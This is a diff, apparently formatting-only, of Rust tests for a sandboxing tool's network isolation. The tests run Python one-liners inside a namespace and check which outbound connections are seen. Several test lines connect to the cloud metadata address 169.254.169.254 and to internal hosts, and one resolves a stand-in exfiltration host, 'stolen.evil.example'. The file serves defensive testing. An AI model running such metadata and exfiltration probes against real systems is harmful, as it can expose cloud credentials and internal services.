@@ -74,7 +74,8 @@ impl Island {
         let tried = "ip link set lo up && ip route add local 0.0.0.0/0 dev lo && ip -6 route add local ::/0 dev lo \
                      && mount --bind /etc/resolv.conf /etc/resolv.conf && python3 -c 'import ssl'";
         if !can("unshare", &[&namespaces[..], &["sh", "-c", tried]].concat()) {
-            let line = "skipped: the packets of the hostile suite need root, unshare, ip (iproute2, with IPv6) and python3";
+            let line =
+                "skipped: the packets of the hostile suite need root, unshare, ip (iproute2, with IPv6) and python3";
             // Past the harness, which would keep it to itself.
             let _ = writeln!(std::io::stderr(), "{line}");
             return None;
@@ -236,22 +237,36 @@ fn a_program_that_sends_anywhere_is_seen() {
     let Some(place) = Place::new() else { return };
     let seen = |script: &str, sent: &[&str]| drop(place.run("python3", &["-c", script]).ok().sent(sent));
     let connect = |to: &str| format!("import socket; socket.create_connection(({to}), 5)");
-    let send = |family: &str, to: &str| format!("import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'x', ({to}))");
+    let send = |family: &str, to: &str| {
+        format!("import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'x', ({to}))")
+    };
     seen("pass", &[]);
     seen(&connect("'169.254.169.254', 80"), &["tcp 169.254.169.254:80"]);
     seen(&connect("'10.0.0.1', 443"), &["tcp 10.0.0.1:443"]);
     seen(&connect("'127.0.0.1', 80"), &["tcp 127.0.0.1:80"]);
     seen(&connect("'fd00:ec2::254', 80"), &["tcp [fd00:ec2::254]:80"]);
     // Also where nobody listens.
-    seen(&connect("'10.0.0.1', 8200").replace("socket.create", "try: socket.create").replace("; try", "\ntry").replace(", 5)", ", 5)\nexcept OSError: pass"), &["tcp 10.0.0.1:8200"]);
+    seen(
+        &connect("'10.0.0.1', 8200")
+            .replace("socket.create", "try: socket.create")
+            .replace("; try", "\ntry")
+            .replace(", 5)", ", 5)\nexcept OSError: pass"),
+        &["tcp 10.0.0.1:8200"],
+    );
     seen(&send("AF_INET", "'10.0.0.1', 514"), &["udp 10.0.0.1:514"]);
     seen(&send("AF_INET6", "'fd00::1', 514"), &["udp [fd00::1]:514"]);
     seen(&send("AF_INET", "'224.0.0.251', 5353"), &["udp 224.0.0.251:5353"]);
     seen(&send("AF_INET", "'8.8.8.8', 53"), &["udp 8.8.8.8:53"]);
-    seen("import socket; socket.getaddrinfo('stolen.evil.example', 80)", &asked("stolen.evil.example").each_ref().map(String::as_str));
+    seen(
+        "import socket; socket.getaddrinfo('stolen.evil.example', 80)",
+        &asked("stolen.evil.example").each_ref().map(String::as_str),
+    );
     // As is what the program of `run` sends: the wall is around plugins.
     let child = connect("'169.254.169.254', 80");
-    place.strongroom(&["run", "-e", "A=env:HOME", "--", "python3", "-c", &child]).ok().sent(&["tcp 169.254.169.254:80"]);
+    place
+        .strongroom(&["run", "-e", "A=env:HOME", "--", "python3", "-c", &child])
+        .ok()
+        .sent(&["tcp 169.254.169.254:80"]);
 }
 
 #[test]
@@ -277,13 +292,18 @@ fn an_approved_request_is_all_that_is_sent() {
     }
     // Of two families, the system says which comes first.
     let ran = place.script("http://both.example", "", &script(get("http://both.example", "/open/a")));
-    let one = ["tcp 93.184.215.14:80".to_owned(), format!("tcp [{PUBLIC_SIX}]:80")].into_iter().find(|to| ran.sent.contains(to));
+    let one = ["tcp 93.184.215.14:80".to_owned(), format!("tcp [{PUBLIC_SIX}]:80")]
+        .into_iter()
+        .find(|to| ran.sent.contains(to));
     ran.sent(&asked_and("both.example", &one.unwrap()));
     // Five requests are one question and as many connections as are needed, all to one place.
     let five = (0..5).fold(Script::default(), |script, _| script.then(get("http://good.example", "/open/a")));
     place.script("http://good.example", "", &five).sent(&asked_and("good.example", &format!("tcp {PUBLIC}:80")));
     // `plugin run` sends what `get` would.
-    place.strongroom(&["plugin", "run", &five.at("a")]).ok().sent(&asked_and("good.example", &format!("tcp {PUBLIC}:80")));
+    place
+        .strongroom(&["plugin", "run", &five.at("a")])
+        .ok()
+        .sent(&asked_and("good.example", &format!("tcp {PUBLIC}:80")));
 }
 
 #[test]
